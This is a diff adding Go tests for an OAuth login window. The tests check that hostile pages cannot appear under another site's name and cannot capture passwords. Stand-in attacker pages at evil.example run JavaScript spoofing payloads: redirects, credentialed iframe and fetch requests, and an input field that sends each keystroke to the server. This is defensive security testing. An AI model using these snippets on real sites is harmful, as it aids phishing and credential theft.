@@ -1,0 +1,260 @@
+//go:build cgo
+
+package loginwindow_test
+
+import (
+	"context"
+	"errors"
+	"fmt"
+	"net/http"
+	"strings"
+	"testing"
+	"time"
+
+	"wails-openid-oauth/auth/loginwindow/internal/gtkloop"
+)
+
+const (
+	evilPage   = "title: evil.example — Log in\nhttps://evil.example\n[page]\n"
+	victimAsks = "“victim.example” asks for your password"
+)
+
+// newForgery is a log-in at evil.example, whose page runs the script. victim.example has a page, one that never comes,
+// and one behind a password.
+func newForgery(t *testing.T, script string) *hosts {
+	t.Helper()
+	b := newBench(t)
+	h := newHosts(b, "evil.example", "victim.example")
+	b.page("evil.example/login", `<input autofocus oninput="fetch('/typed?' + this.value)">
+		<script>
+			function later(f) { setTimeout(() => { f(); document.title = 'end' }, 1000) }
+			function frame(src) { setTimeout(() => document.body.innerHTML = '<iframe src="' + src + '"></iframe>', 500); later(() => 0) }
+			onload = () => setTimeout(() => { `+script+` })
+		</script>`)
+	b.mux.HandleFunc("evil.example/to/{page}", func(w http.ResponseWriter, r *http.Request) {
+		http.Redirect(w, r, "https://victim.example/"+r.PathValue("page"), http.StatusFound)
+	})
+	never := make(chan bool)
+	b.Cleanup(func() { close(never) })
+	b.mux.HandleFunc("victim.example/never", func(http.ResponseWriter, *http.Request) { <-never })
+	b.mux.HandleFunc("victim.example/empty", func(w http.ResponseWriter, _ *http.Request) { w.WriteHeader(http.StatusNoContent) })
+	b.mux.HandleFunc("victim.example/secret", behindPassword("secret of the victim"))
+	b.mux.HandleFunc("evil.example/secret", behindPassword("secret of the page"))
+	return h
+}
+
+func behindPassword(text string) http.HandlerFunc {
+	return func(w http.ResponseWriter, r *http.Request) {
+		w.Header().Set("Content-Type", "text/html")
+		if user, password, _ := r.BasicAuth(); user != "ann" || password != "pw" {
+			w.Header().Set("WWW-Authenticate", `Basic realm="the realm is free text"`)
+			w.WriteHeader(http.StatusUnauthorized)
+		}
+		fmt.Fprint(w, text)
+	}
+}
+
+// watch looks at the windows until the returned function is called, which fails the test if a page was ever seen with
+// the name of the victim, while no page of the victim has come.
+func (h *hosts) watch() func() {
+	stop, done := make(chan bool), make(chan string, 1)
+	go func() {
+		forged := ""
+		for {
+			select {
+			case <-stop:
+				done <- forged
+				return
+			default:
+			}
+			if seen := gtkloop.Seen(); strings.Contains(seen, "[page]") && strings.Contains(seen, "victim.example") {
+				forged = seen
+			}
+			time.Sleep(time.Millisecond) // leaves the main loop to the windows
+		}
+	}()
+	return func() {
+		h.Helper()
+		close(stop)
+		if forged := <-done; forged != "" {
+			h.Errorf("a page of evil.example was seen as:\n%s", forged)
+		}
+	}
+}
+
+// sees waits until the windows show exactly, or contain, the text.
+func (h *hosts) sees(text string) {
+	h.Helper()
+	last := ""
+	h.eventually("sight of "+text, func() bool {
+		seen := gtkloop.Seen()
+		if seen != last {
+			last = seen
+			fmt.Fprintf(h.log, "seen: %q\n", seen)
+		}
+		return strings.Contains(seen, text)
+	})
+}
+
+// enter types into what has the focus, and presses Return.
+func (h *hosts) enter(text string) {
+	h.Helper()
+	h.xdotool("type", text)
+	h.xdotool("key", "Return")
+}
+
+func (h *hosts) seesNoPage() {
+	h.Helper()
+	if seen := gtkloop.Seen(); strings.Contains(seen, "[page]") {
+		h.Errorf("the page is not covered:\n%s", seen)
+	}
+}
+
+// start opens the log-in, and returns what ends it.
+func (h *hosts) start() func() {
+	ctx, cancel := context.WithCancel(h.Context())
+	done := h.open(ctx, "/login", false)
+	return func() {
+		h.Helper()
+		cancel()
+		if got := receive(h.bench, "result", done); !errors.Is(got.err, context.Canceled) {
+			h.Errorf("Open: %v", got.err)
+		}
+	}
+}
+
+// A page navigates to where no document comes from, stays alive, and must not be seen under that name.
+func TestNoPageIsSeenUnderAnothersName(t *testing.T) {
+	for name, script := range map[string]string{
+		"redirect, stop":                       `location = '/to/never'; later(() => stop())`,
+		"straight, stop":                       `location = 'https://victim.example/never'; later(() => stop())`,
+		"redirect, no content":                 `location = '/to/empty'; later(() => 0)`,
+		"redirect, stays":                      `location = '/to/never'; later(() => 0)`,
+		"redirect, blank":                      `location = '/to/never'; later(() => { location = 'about:blank'; fetch('/gone', {keepalive: true}) })`,
+		"redirect, write":                      `location = '/to/never'; later(() => { document.open(); document.write('<title>x</title>'); document.close() })`,
+		"redirect, push state":                 `location = '/to/never'; later(() => history.pushState(0, '', '/victim'))`,
+		"redirect, new load":                   `location = '/to/never'; later(() => location = '/end')`,
+		"redirect, alert":                      `location = '/to/never'; later(() => setTimeout(() => alert('victim'), 500))`,
+		"frame behind password":                `frame('https://victim.example/secret')`,
+		"image behind password":                `later(() => document.body.innerHTML = '<img src="https://victim.example/secret">')`,
+		"fetch behind password":                `fetch('https://victim.example/secret', {credentials: 'include', mode: 'no-cors'}); later(() => 0)`,
+		"frame, then the same host":            `location = 'https://victim.example/never'; frame('https://victim.example/secret')`,
+		"redirected frame, then the same host": `location = 'https://victim.example/never'; frame('/to/secret')`,
+	} {
+		t.Run(name, func(t *testing.T) {
+			h := newForgery(t, script)
+			h.page("evil.example/end", "<title>end</title>")
+			gone := h.signal("evil.example/gone")
+			watched := h.watch()
+			stop := h.start()
+			if strings.Contains(name, "blank") {
+				receive(h.bench, "end of the document", gone)
+				h.sees(evilPage + "\n")
+			} else {
+				h.sees(evilPage + "end\n")
+			}
+			watched()
+			stop()
+		})
+	}
+}
+
+// A host that has not committed asks for a password: the page is covered, the form names the host, and when the page
+// takes the question back, nothing of what is still typed reaches the page.
+func TestPasswordFormCoversThePage(t *testing.T) {
+	for name, script := range map[string]string{
+		"redirect": "location = '/to/secret'",
+		"straight": "location = 'https://victim.example/secret'",
+	} {
+		t.Run(name, func(t *testing.T) {
+			h := newForgery(t, script+"; document.onvisibilitychange = () => setTimeout(() => stop(), 2000)")
+			typed := h.signal("evil.example/typed")
+			watched := h.watch()
+			end := h.start()
+			h.sees(victimAsks)
+			h.seesNoPage()
+			h.picture("password-" + name)
+			h.onWindow("windowfocus", "--sync")
+			h.xdotool("type", "ann")
+			h.sees("The password is not asked for any more")
+			h.seesNoPage()
+			h.picture("withdrawn")
+			h.enter("pass word")
+			h.seesNoPage()
+			h.xdotool("key", "alt+o")
+			h.sees(evilPage)
+			watched()
+			if len(typed) != 0 {
+				t.Errorf("the page got %q", <-typed)
+			}
+			end()
+		})
+	}
+}
+
+// The user cancels, or answers.
+func TestPasswordFormAsTheUserSeesIt(t *testing.T) {
+	const toVictim = "location = 'https://victim.example/secret'"
+	t.Run("Escape brings the page back", func(t *testing.T) {
+		h := newForgery(t, toVictim)
+		end := h.start()
+		h.sees(victimAsks)
+		h.onWindow("windowfocus", "--sync")
+		h.xdotool("key", "Escape")
+		h.sees(evilPage)
+		end()
+	})
+	t.Run("answered", func(t *testing.T) {
+		h := newForgery(t, toVictim)
+		end := h.start()
+		h.sees(victimAsks)
+		h.onWindow("windowfocus", "--sync")
+		h.enter("ann\twrong")
+		h.sees("The name or the password was not right")
+		h.seesNoPage()
+		h.picture("password-again")
+		h.enter("pw") // the name is still there
+		h.sees("title: victim.example — Log in\nhttps://victim.example\n[page]\n")
+		end()
+	})
+	t.Run("of the page's own host", func(t *testing.T) {
+		h := newForgery(t, "fetch('/secret').then(() => fetch('/end'))")
+		answered := h.signal("evil.example/end")
+		end := h.start()
+		h.sees("“evil.example” asks for your password")
+		h.seesNoPage()
+		h.onWindow("windowfocus", "--sync")
+		h.enter("ann\tpw")
+		receive(h.bench, "answer", answered)
+		h.sees(evilPage)
+		end()
+	})
+	t.Run("before any page", func(t *testing.T) {
+		h := newForgery(t, "")
+		h.origin = "https://victim.example"
+		h.mux.HandleFunc("victim.example/login", behindPassword("welcome"))
+		end := h.start()
+		h.sees(victimAsks)
+		h.onWindow("windowfocus", "--sync")
+		h.xdotool("key", "Escape")
+		h.sees("“victim.example” was not opened")
+		h.xdotool("key", "Return") // "Try again"
+		h.sees(victimAsks)
+		h.enter("ann\tpw")
+		h.sees("title: victim.example — Log in\nhttps://victim.example\n[page]\n")
+		end()
+	})
+	t.Run("asked too often", func(t *testing.T) {
+		h := newForgery(t, "onfocus = () => "+toVictim+"; "+toVictim)
+		end := h.start()
+		for range 5 {
+			h.sees(victimAsks)
+			h.onWindow("windowfocus", "--sync")
+			h.xdotool("key", "Escape")
+			h.sees(evilPage)
+			h.xdotool("mousemove", "400", "400", "click", "1")
+		}
+		h.logged("password forms")
+		end()
+	})
+}
